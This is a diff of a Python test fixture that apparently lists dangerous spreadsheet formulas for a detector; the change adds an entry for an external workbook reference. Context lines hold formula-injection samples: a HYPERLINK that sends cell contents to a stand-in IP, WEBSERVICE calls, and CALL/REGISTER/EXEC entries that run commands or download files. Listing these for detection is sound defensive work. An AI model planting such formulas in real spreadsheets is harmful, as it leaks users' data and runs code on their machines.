@@ -16,7 +16,7 @@ FORMULAS = {
     "web service, prefixed": '_xlfn.WEBSERVICE("http://192.0.2.1")', "call": 'CALL("Kernel32","WinExec")',
     "register": 'REGISTER("urlmon","URLDownloadToFileA")', "register id": 'REGISTER.ID("a","b")',
     "exec": 'EXEC("calc.exe")', "real-time data": 'RTD("prog.id","192.0.2.1")', "image": 'IMAGE("https://a")',
-    "hyperlink": 'HYPERLINK("http://192.0.2.1/"&amp;A1,"click")', "other book": "[1]Sheet1!A1",
+    "hyperlink": 'HYPERLINK("http://192.0.2.1/"&amp;A1,"click")', "other book": "[1]Sheet1!A1", "other book without quotes": "SUM([Book.xlsx]Sheet1!A1)",
     "other book by name": "'[book.xlsx]Sheet1'!A1", "book on a share": "'\\\\192.0.2.1\\s\\[a.xlsx]S'!A1",
     "book on the web": "'http://192.0.2.1/[a.xlsx]S'!A1", "files": 'FILES("C:\\*")', "fopen": 'FOPEN("a")',
     "open": 'OPEN("a")', "get workspace": "GET.WORKSPACE(1)", "small letters": 'webservice("http://a")',
